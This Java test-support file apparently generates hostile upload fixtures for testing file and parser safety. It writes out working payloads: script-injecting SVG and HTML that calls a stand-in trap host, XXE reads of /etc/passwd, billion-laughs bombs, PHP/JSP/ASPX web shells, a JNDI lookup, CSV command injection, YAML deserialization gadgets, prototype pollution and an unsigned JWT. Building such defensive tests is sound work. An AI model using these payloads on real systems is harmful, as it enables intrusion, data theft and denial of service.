package org.tessera.support.hostile;

import java.nio.charset.StandardCharsets;

/** Pages, drawings and settings that a browser or a web server would run. */
final class Markup {

    private static final String SVG =
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">";

    private Markup() {}

    static void into(HostileFiles all) {
        drawings(all);
        entities(all);
        pages(all);
        servers(all);
        readers(all);
    }

    private static void drawings(HostileFiles all) {
        String trap = all.trap();
        svg(all, "script", all.script());
        svg(all, "script as data", "<script><![CDATA[fetch('" + trap + "/svg')]]></script>");
        svg(all, "script from elsewhere", "<script xlink:href=\"" + trap + "/a.js\"/>");
        svg(all, "onload", "<g onload=\"fetch('" + trap + "/onload')\"/>");
        svg(
                all,
                "foreignObject",
                "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">" + all.script()
                        + "<iframe src=\"javascript:fetch('" + trap + "')\"/></body></foreignObject>");
        svg(
                all,
                "link to script",
                "<a xlink:href=\"javascript:fetch('" + trap + "')\"><rect width=\"9\" height=\"9\"/></a>");
        svg(all, "animated link", "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></a>");
        svg(all, "set handler", "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>");
        svg(all, "picture from elsewhere", "<image xlink:href=\"" + trap + "/image.png\"/>");
        svg(all, "file of the server", "<image xlink:href=\"file:///etc/passwd\"/>");
        svg(all, "style from elsewhere", "<style>@import url(" + trap + "/a.css);</style>");
        svg(
                all,
                "nested page as data",
                "<image xlink:href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"/>");
        StringBuilder uses = new StringBuilder("<defs><g id=\"a0\"><rect width=\"1\" height=\"1\"/></g>");
        for (int i = 1; i < 30; i++) {
            uses.append("<g id=\"a")
                    .append(i)
                    .append("\">")
                    .append(("<use xlink:href=\"#a" + (i - 1) + "\"/>").repeat(10))
                    .append("</g>");
        }
        svg(all, "uses of uses of uses", uses + "</defs><use xlink:href=\"#a29\"/>");
        svg(all, "use of itself", "<g id=\"a\"><use xlink:href=\"#a\"/></g>");
        svg(
                all,
                "huge filter",
                "<filter id=\"f\"><feGaussianBlur stdDeviation=\"1e9\"/></filter><rect filter=\"url(#f)\"/>");
        all.text("drawing, deep", "work.svg", "<svg>".repeat(100_000));
        all.text(
                "drawing with a style sheet that transforms",
                "work.svg",
                "<?xml-stylesheet type=\"text/xsl\" href=\"" + trap + "/a.xsl\"?>" + SVG + "</svg>");
        String plain = SVG + all.script() + "</svg>";
        all.add("drawing in UTF-16", "work.svg", () -> plain.getBytes(StandardCharsets.UTF_16));
        all.text(
                "drawing in UTF-7",
                "work.svg",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-script+AD4-alert(1)+ADw-/script+AD4-");
        all.add("packed drawing", "work.svgz", () -> Bytes.gzip(Bytes.of(plain), 1));
    }

    private static void svg(HostileFiles all, String what, String inside) {
        all.text("drawing: " + what, "work.svg", SVG + inside + "</svg>");
    }

    private static void entities(HostileFiles all) {
        String trap = all.trap();
        StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY a")
                    .append(i)
                    .append(" \"")
                    .append(("&a" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        xml(all, "a billion laughs", laughs.toString(), "&a11;");
        xml(all, "one entity a million times", "<!ENTITY a \"" + "x".repeat(50_000) + "\">", "&a;".repeat(30_000));
        xml(all, "a file of the server", "<!ENTITY a SYSTEM \"file:///etc/passwd\">", "&a;");
        xml(all, "an address", "<!ENTITY a SYSTEM \"" + trap + "/entity\">", "&a;");
        xml(all, "a parameter entity", "<!ENTITY % a SYSTEM \"" + trap + "/parameter\"> %a;", "");
        xml(all, "an entity of itself", "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">", "&a;");
        xml(all, "a jar of elsewhere", "<!ENTITY a SYSTEM \"jar:" + trap + "/a.jar!/a\">", "&a;");
        xml(all, "a device", "<!ENTITY a SYSTEM \"file:///dev/zero\">", "&a;");
        all.text("types from elsewhere", "work.svg", "<!DOCTYPE svg SYSTEM \"" + trap + "/a.dtd\">" + SVG + "</svg>");
        all.text(
                "included text",
                "work.xml",
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>");
        all.text("many attributes", "work.svg", SVG.replace(">", " a='1'".repeat(100_000) + ">") + "</svg>");
    }

    private static void xml(HostileFiles all, String what, String types, String inside) {
        all.text(
                "drawing with entities: " + what,
                "work.svg",
                "<?xml version=\"1.0\"?><!DOCTYPE svg [" + types + "]>" + SVG + "<text>" + inside + "</text></svg>");
    }

    private static void pages(HostileFiles all) {
        String script = all.script();
        all.disguised("page", "html", "<!doctype html><title>a</title>" + script);
        all.disguised("page with a byte order mark", "htm", "\uFEFF<html>" + script);
        all.disguised("page behind a thousand spaces", "shtml", " ".repeat(1_000) + "<html>" + script);
        all.disguised(
                "strict page",
                "xhtml",
                "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head>" + script + "</head></html>");
        all.disguised(
                "packed page",
                "mht",
                "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
                        + "Content-Type: text/html\n\n" + script + "\n--b--");
        all.disguised("page that is a program", "hta", "<hta:application/>" + script);
        all.disguised("script", "js", "fetch('" + all.trap() + "/js')//" + all.mark());
        all.disguised("style", "css", "body{background:url(" + all.trap() + "/css)}");
        all.disguised(
                "transformation",
                "xsl",
                "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/>" + script);
        all.text(
                "page that sends itself on",
                "work.html",
                "<meta http-equiv=refresh content=\"0;url=" + all.trap() + "\">");
        all.text("page in UTF-7", "work.html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");
        all.text("subtitles with script", "work.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\n" + script);
        all.text("manifest for browsers", "work.appcache", "CACHE MANIFEST\nFALLBACK:\n/ /evil");
        all.text("worker", "sw.js", "self.addEventListener('fetch',()=>fetch('" + all.trap() + "'))");
        all.text(
                "rules across sites",
                "crossdomain.xml",
                "<cross-domain-policy><allow-access-from domain=\"*\"/></cross-domain-policy>");
    }

    private static void servers(HostileFiles all) {
        String command = all.command();
        all.disguised("PHP", "php", "<?php system('" + command + "'); ?>");
        all.disguised("Java page", "jsp", "<% Runtime.getRuntime().exec(\"" + command + "\"); %>");
        all.text(
                "Java page in XML",
                "work.jspx",
                "<jsp:scriptlet>Runtime.getRuntime().exec(\"" + command + "\");</jsp:scriptlet>");
        all.text(
                "ASP",
                "work.aspx",
                "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"" + command + "\"); %>");
        all.text("settings of Apache", ".htaccess", "AddType application/x-httpd-php .png");
        all.text("settings of IIS", "web.config", "<configuration><system.webServer/></configuration>");
        all.text("settings of PHP", ".user.ini", "auto_prepend_file=work.png");
        all.text(
                "template",
                "work.ftl",
                "${\"freemarker.template.utility.Execute\"?new()(\"" + command + "\")} #{7*7} ${{7*7}} {{7*7}}");
        all.text(
                "names looked up in logs",
                "work.txt",
                "${jndi:ldap://" + all.trap().replace("http://", "") + "/a}");
        all.text(
                "commands in a table",
                "work.csv",
                "name,email\n=cmd|'/c " + command + "'!A1,\"=HYPERLINK(\"\"" + all.trap() + "\"\")\"\n");
        all.text("a table of ten thousand columns", "people.csv", "a@example.org,".repeat(10_000));
        all.text("a table with an open quote", "people.csv", "name,email\n\"" + "x,".repeat(20_000));
        all.text(
                "a table of script", "people.csv", "name,email\n" + all.script() + "," + all.mark() + "@example.org\n");
    }

    /** For what reads YAML and JSON. */
    private static void readers(HostileFiles all) {
        all.text(
                "YAML that makes objects",
                "protocol.yaml",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + all.trap()
                        + "\"]]]]");
        StringBuilder laughs = new StringBuilder("a0: &a0 [ha, ha]\n");
        for (int i = 1; i < 12; i++) {
            laughs.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(("*a" + (i - 1) + ", ").repeat(9))
                    .append("x]\n");
        }
        all.text("YAML of a billion laughs", "protocol.yaml", laughs.toString());
        all.text("YAML, deep", "protocol.yaml", "[".repeat(20_000));
        all.text("YAML, deep by indents", "protocol.yaml", deep());
        all.text("YAML of itself", "protocol.yaml", "a: &a [*a]");
        all.text("YAML with merged keys", "protocol.yaml", "a: &a {b: 1}\n<<: *a\nid: x");
        all.text("YAML of many documents", "protocol.yaml", "---\nid: a\n".repeat(5_000));
        all.text("YAML with a number of a million digits", "protocol.yaml", "version: " + "9".repeat(200_000));
        all.text("YAML for a binary", "protocol.yaml", "a: !!binary " + "A".repeat(100_000));
        all.text("JSON, deep", "badge.json", "[".repeat(100_000));
        all.text(
                "JSON with changed prototypes",
                "badge.json",
                "{\"__proto__\":{\"polluted\":\"" + all.mark() + "\"},\"constructor\":{\"prototype\":{}}}");
        all.text(
                "JSON with a context elsewhere",
                "badge.json",
                "{\"@context\":\"" + all.trap() + "/context\",\"type\":\"VerifiableCredential\"}");
        all.text("token without a signature", "badge.jwt", "eyJhbGciOiJub25lIn0.eyJpc3MiOiJhIn0.");
    }

    private static String deep() {
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < 400; i++) {
            deep.append(" ".repeat(i)).append("a:\n");
        }
        return deep.toString();
    }
}
